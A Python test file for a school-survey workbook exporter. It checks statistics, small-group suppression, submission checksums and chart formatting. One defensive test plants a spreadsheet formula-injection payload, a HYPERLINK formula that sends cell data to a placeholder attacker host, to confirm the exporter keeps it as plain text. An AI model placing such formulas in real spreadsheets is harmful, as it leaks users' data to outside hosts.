"""The consultant workbook: numbers equal services.stats (and pandas on its own raw sheet), small
groups are suppressed everywhere, the submission sheets verify, text never becomes a formula."""

from __future__ import annotations

import json
import shutil
import sys

import openpyxl
import pandas as pd
import pytest

from schoolvault import services, submission
from schoolvault.errors import SchoolVaultError
from schoolvault.forms.scoring import SUPPRESSED
from schoolvault.workspace import open_workspace, responses
from schoolvault.workspace.responses import ResponseRow

SODI = "sodi-example-2025"
EVAL = "seoul-eval-survey-2025"
TOL = {"rel": 1e-12, "abs": 1e-12}


@pytest.fixture(scope="module")
def book(_template_demo_ws, tmp_path_factory):
    from schoolvault.reports.workbook import export_workbook
    d = tmp_path_factory.mktemp("workbook")
    db = d / "demo.sqlite"
    shutil.copy(_template_demo_ws, db)
    with open_workspace(db) as ws:
        result = export_workbook(ws, d / "book.xlsx")
        stats = {i: services.stats(ws, i) for i in (SODI, EVAL)}
    wb = openpyxl.load_workbook(d / "book.xlsx")
    yield {"wb": wb, "result": result, "stats": stats, "path": d / "book.xlsx", "db": db}
    wb.close()


def rows(ws, header_row: int = 1) -> list[dict]:
    it = ws.iter_rows(min_row=header_row, values_only=True)
    head = next(it)
    return [dict(zip(head, r)) for r in it]


def test_workbook_has_the_sheets_a_consultant_expects(book):
    names = book["wb"].sheetnames
    for name in ("요약", "지표별 자체평가", "문항 통계", "요인·영역 점수", "집단 비교", "의견", submission.SUBMISSION_SHEET,
                 submission.META_SHEET):
        assert name in names
    assert sum(1 for n in names if n.startswith("원자료")) == 2
    assert book["wb"]["문항 통계"].freeze_panes == "F2"
    assert book["wb"]["집단 비교"]._charts, "group comparison carries charts"


def test_item_statistics_equal_services_stats(book):
    seen = 0
    for r in rows(book["wb"]["문항 통계"]):
        st = book["stats"][r["도구"]]["groups"][r["집단"]]["items"][r["문항 코드"]]
        assert r["n"] == st["n"]
        for col, key in (("평균", "mean"), ("표준편차", "sd"), ("100점 환산", "score100"), ("긍정률", "positive_rate")):
            assert r[col] == pytest.approx(st[key], **TOL)
        counts = [r[k] for k in r if k and k[0].isdigit() and ":" in k]
        assert counts == [st["counts"][str(v)] for v in range(1, len(counts) + 1)]
        seen += 1
    expected = sum(len(g["items"]) for s in book["stats"].values() for g in s["groups"].values())
    assert seen == expected


def test_factor_and_domain_scores_equal_stats_json(book, capsys):
    from schoolvault.cli import main
    assert main(["--db", str(book["db"]), "stats", "--instrument", SODI, "--json"]) == 0
    cli = json.loads(capsys.readouterr().out)
    checked = 0
    for r in rows(book["wb"]["요인·영역 점수"]):
        if r["도구"] != SODI:
            continue
        st = cli["groups"][r["집단"]]["factors" if r["구분"] == "요인" else "domains"][r["코드"]]
        assert r["n"] == st["n"]
        assert r["평균"] == pytest.approx(st["mean"], **TOL)
        assert r["표준편차"] == pytest.approx(st["sd"], **TOL)
        assert r["100점 환산"] == pytest.approx(st["score100"], **TOL)
        if r["구분"] == "요인":
            assert r["신뢰도(α)"] == pytest.approx(st["alpha"], **TOL)
        checked += 1
    assert checked > 50


def test_raw_sheet_reproduces_item_means_with_pandas(book):
    """An independent recount: pandas on the anonymous raw sheet gives the 문항 통계 numbers."""
    raw = pd.read_excel(book["path"], sheet_name="원자료 SODI", engine="openpyxl")
    stats = book["stats"][SODI]["groups"]
    assert set(raw["집단"]) == set(stats)
    for g, part in raw.groupby("집단"):
        assert len(part) == stats[g]["n"]
        for code, st in stats[g]["items"].items():
            col = part[code].dropna()
            assert len(col) == st["n"]
            assert col.mean() == pytest.approx(st["mean"], rel=1e-9)
            if st["n"] > 1:
                assert col.std(ddof=1) == pytest.approx(st["sd"], rel=1e-9)


def test_numbers_show_two_decimals_but_keep_full_precision(book):
    ws = book["wb"]["문항 통계"]
    cell = ws["I2"]  # 평균
    assert cell.number_format == "0.00"
    assert round(cell.value, 2) != cell.value or round(ws["J2"].value, 2) != ws["J2"].value


def test_submission_sheet_checksum_verifies(book):
    sub = book["wb"][submission.SUBMISSION_SHEET]
    body = list(sub.iter_rows(values_only=True))
    assert tuple(body[0]) == submission.COLUMNS
    meta = {k: v for k, v in book["wb"][submission.META_SHEET].iter_rows(values_only=True)}
    assert list(meta) == list(submission.META_KEYS)
    assert meta["format"] == submission.FORMAT and meta["checksum"] == book["result"]["checksum"]
    assert submission.workbook_checksum(submission.read_sheets(book["path"].read_bytes())) == meta["checksum"]
    ratings = [r for r in body[1:] if r[0] == "rating"]
    assert len(ratings) == sum(1 for x in services_list(book) if x["rating"])


def services_list(book) -> list[dict]:
    with open_workspace(book["db"]) as ws:
        return services.self_eval_list(ws)


def test_district_reader_accepts_the_export(book):
    reader = pytest.importorskip("schoolvault.district.reader")
    sub = reader.read_submission(book["path"])
    assert sub.checksum_ok and not sub.warnings
    assert sub.year == 2025 and sub.level == "초"


@pytest.mark.parametrize("sheet", [submission.SUBMISSION_SHEET, "요인·영역 점수", "지표별 자체평가"])
def test_edited_submission_fails_the_checksum(book, sheet):
    sheets = submission.read_sheets(book["path"].read_bytes())
    meta = {k: v for k, v in book["wb"][submission.META_SHEET].iter_rows(values_only=True)}
    assert submission.workbook_checksum(sheets) == meta["checksum"]
    rows = dict(sheets)[sheet]
    r, c = next((r, c) for r, row in enumerate(rows) for c, v in enumerate(row) if isinstance(v, float) and r > 0)
    rows[r][c] += 0.5  # a consultant "corrects" a figure, in the machine sheet or a visible one
    assert submission.workbook_checksum(sheets) != meta["checksum"]


def _replace_group(ws, instrument: str, group: str, n: int, comment: str) -> None:
    adms = responses.administrations(ws, None, instrument, group)
    keep = responses.answers_by_respondent(ws, [adms[0].id])[:n]
    with ws.transaction():
        for a in adms:
            responses.delete_administration(ws, a.id)
        q = services.survey(ws, instrument).open_questions[0].code
        responses.add_administration(ws, year=adms[0].year, instrument_ref=adms[0].instrument_ref, group=group,
                                     rows=[ResponseRow(r + 2, ans, {q: comment}) for r, ans in enumerate(keep)],
                                     method="import")


def test_small_group_is_suppressed_in_every_sheet(demo_ws, tmp_path):
    from schoolvault.reports.workbook import export_workbook
    secret = "소수 집단만 아는 의견입니다 7731"
    _replace_group(demo_ws, SODI, "직원", 3, secret)
    export_workbook(demo_ws, tmp_path / "b.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "b.xlsx")
    body = [r for r in wb[submission.SUBMISSION_SHEET].iter_rows(min_row=2, values_only=True)
            if r[1] == SODI and r[2] == "직원"]
    assert body == [("respondents", SODI, "직원", None, None, SUPPRESSED) + (None,) * (len(submission.COLUMNS) - 6)]
    items = [r for r in rows(wb["문항 통계"]) if r["도구"] == SODI and r["집단"] == "직원"]
    assert len(items) == 1 and items[0]["n"] == SUPPRESSED and items[0]["평균"] is None
    assert not [r for r in rows(wb["요인·영역 점수"]) if r["도구"] == SODI and r["집단"] == "직원" and r["평균"]]
    assert "직원" not in {r["집단"] for r in rows(wb["원자료 SODI"])}
    assert all(secret not in str(c) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row)
    # the other survey's 직원 (not small) is still there
    assert [r for r in rows(wb["문항 통계"]) if r["도구"] == EVAL and r["집단"] == "직원" and r["평균"] is not None]


def test_text_that_looks_like_a_formula_stays_text(demo_ws, tmp_path):
    from schoolvault.reports.workbook import export_workbook
    evil = '=HYPERLINK("http://evil.example/?"&A1,"클릭")'
    _replace_group(demo_ws, SODI, "교원", 10, evil)
    export_workbook(demo_ws, tmp_path / "b.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "b.xlsx")
    texts = [r["의견"] for r in rows(wb["의견"]) if r["집단"] == "교원" and r["도구"] == SODI]
    assert texts and all(t == "'" + evil for t in texts)
    assert not any(c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_export_refuses_a_name_that_is_not_xlsx(demo_ws, tmp_path):
    from schoolvault.reports.workbook import export_workbook
    with pytest.raises(SchoolVaultError) as e:
        export_workbook(demo_ws, tmp_path / "book.xls")
    assert ".xlsx" in e.value.hint
    assert not list(tmp_path.glob("*.xls*")) and not list(tmp_path.glob(".schoolvault-*"))


def test_cli_export_and_report(demo_ws_path, tmp_path, capsys):
    from schoolvault.cli import main
    assert main(["--db", str(demo_ws_path), "export", str(tmp_path / "w.xlsx"), "--json"]) == 0
    out = json.loads(capsys.readouterr().out)
    assert out["file"].endswith("w.xlsx") and (tmp_path / "w.xlsx").exists()
    assert main(["--db", str(demo_ws_path), "report", str(tmp_path / "q.pdf"), "--kind", "questionnaire",
                 "--instrument", SODI, "--group", "학부모"]) == 0
    assert "보고서를 만들었습니다" in capsys.readouterr().out
    with pytest.raises(SystemExit) as e:
        main(["--db", str(demo_ws_path), "report", str(tmp_path / "q.pdf"), "--kind", "questionnaire"])
    assert e.value.code == 2
    assert main(["--db", str(demo_ws_path), "report", str(tmp_path / "x.txt"), "--kind", "evaluation"]) == 1
    assert ".pdf" in capsys.readouterr().err


def test_benchmark_in_the_district_file_format_adds_percentiles(demo_ws, tmp_path):
    from schoolvault.reports.workbook import export_workbook
    sv = services.survey(demo_ws, SODI)
    entry = {"n_schools": 40, "mean": 3.9, "sd": 0.3, "percentiles": {"10": 3.5, "50": 3.9, "90": 4.3}}
    bench = {"초": {"n_schools": 40, "factors": {f"{SODI}:{f.code}": entry for f in sv.factors()}}}
    export_workbook(demo_ws, tmp_path / "b.xlsx", benchmark=bench)
    ws = openpyxl.load_workbook(tmp_path / "b.xlsx")["집단 비교"]
    heads = [r for r in ws.iter_rows(values_only=True) if r[0] == "영역"]
    assert [h for h in heads if "백분위" in h], "the SODI block gains 기준 평균 and 백분위"
    pct = [r[-1] for r in ws.iter_rows(values_only=True) if isinstance(r[-1], float)]
    assert pct and all(0 <= p <= 100 for p in pct)


@pytest.mark.slow
def test_libreoffice_opens_the_workbook(book, tmp_path):
    """The district and the consultants open it in Excel or LibreOffice; headless conversion proves
    the file is well-formed for a second implementation (skipped where LibreOffice is absent)."""
    import subprocess
    from pathlib import Path
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed")
    if not (Path(soffice).resolve().parent / "libsclo.so").exists() and sys.platform.startswith("linux"):
        pytest.skip("LibreOffice Calc is not installed (only Writer, which cannot read a workbook)")
    profile = (tmp_path / "profile").as_uri()  # own profile: other soffice instances may be running
    r = subprocess.run([soffice, f"-env:UserInstallation={profile}", "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
                        "--outdir", str(tmp_path), str(book["path"])], check=False, capture_output=True, text=True,
                       timeout=180)
    assert r.returncode == 0, r.stderr
    first = (tmp_path / "book.csv").read_text(encoding="utf-8", errors="replace")
    assert "학교평가 결과" in first  # the 요약 sheet, Korean intact


def test_the_rating_chart_counts_in_whole_numbers(book):
    import re
    import zipfile
    with zipfile.ZipFile(book["path"]) as z:
        charts = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/charts/chart")]
    rating = next(c for c in charts if "자체평가 등급 분포" in c)
    val_axis = re.search(r"<c:valAx>.*?</c:valAx>", rating, re.DOTALL).group(0)
    assert 'formatCode="0"' in val_axis and re.search(r'<c:majorUnit val="\d+"/>', val_axis)
    assert '<c:min val="0"/>' in val_axis


def test_groups_in_the_workbook_charts_differ_by_pattern_not_colour_alone(book):
    from _chart_xml import series_looks
    charts = [c for c in series_looks(book["path"]) if len(c) > 1]
    assert charts, "the 집단 비교 sheet carries multi-group charts"
    seen: dict[str, str] = {}
    for chart in charts:
        looks = [look for _, look in chart]
        assert len(set(looks)) == len(looks), chart           # no two series of a chart look alike
        assert any(look.startswith("wdUpDiag") for look in looks), chart  # a real hatch, not only solid fills
        for name, look in chart:
            assert seen.setdefault(name, look) == look, name  # a group looks the same in every chart
    assert seen["교원"].startswith("solid") and seen["직원"].startswith("wdUpDiag")  # as in the PDF charts
    assert len(set(seen.values())) == len(seen) >= 3
